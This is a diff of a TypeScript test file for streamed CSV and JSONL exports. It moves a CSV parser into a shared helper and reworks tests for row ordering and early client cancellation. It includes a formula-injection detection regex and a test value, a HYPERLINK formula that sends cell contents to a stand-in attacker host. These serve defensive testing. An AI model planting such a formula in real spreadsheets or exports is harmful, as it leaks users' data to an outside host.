@@ -15,22 +15,9 @@ import type { Event } from '../../src/doc/types.js';
 import { readSources } from '../../src/readers/sources.js';
 import { makeCorpus } from '../corpus/store.cases.js';
 import { exportResponse } from '../../src/server/export-response.js';
+import { inThreadReader } from '../../src/server/read-pool.js';
 import type { Store } from '../../src/store/store.js';
-
-/** RFC 4180: rows of cells, quoted cells may hold commas, quotes ("") and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [], cell = '', quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
-    } else if (ch === '"' && cell === '') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += ch;
-  }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
-  return rows;
-}
+import { parseCsv } from '../cases/csv.js';
 
 const FORMULA = /^\s*[=+\-@]|^[\t\r]/;
 const URL_ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")\tsecond\ncell';
@@ -125,21 +112,20 @@ describe('streamed exports of a corpus larger than one read', () => {
   }, 120_000);
   afterAll(async () => { await big?.close(); });
 
-  it('gives every row, in order, across reads of 256 rows', async () => {
+  it('gives every row, in order', async () => {
     const w = csvWriter();
     let expected = w.head();
     for await (const e of big.events({})) expected += w.row(e, null);
-    expect(expected.split('\n').length).toBeGreaterThan(2 * 256);          // why: more than two reads
-    expect(await (await exportResponse('csv', {}, big)).text()).toBe(expected);
+        expect(await (await exportResponse('csv', {}, inThreadReader(big))).text()).toBe(expected);
   });
-  it('ends the query when the client leaves, and the store goes on answering', async () => {
-    const reader = (await exportResponse('jsonl', {}, big)).body!.getReader();
+  it('a client that leaves early closes the file, and the store goes on answering', async () => {
+    const reader = (await exportResponse('jsonl', {}, inThreadReader(big))).body!.getReader();
     const first = await reader.read();
     expect(first.done).toBe(false);
     await reader.cancel();
-    // why: the cancelled export's statement is closed, and the store still answers
+    // why: the cancelled export's file is closed, and the store still answers
     expect((await big.counts()).events).toBeGreaterThan(300);
-    const again = (await (await exportResponse('jsonl', { limit: 3 }, big)).text()).trim().split('\n');
+    const again = (await (await exportResponse('jsonl', { limit: 3 }, inThreadReader(big))).text()).trim().split('\n');
     expect(again.length).toBe(3);
   });
 });
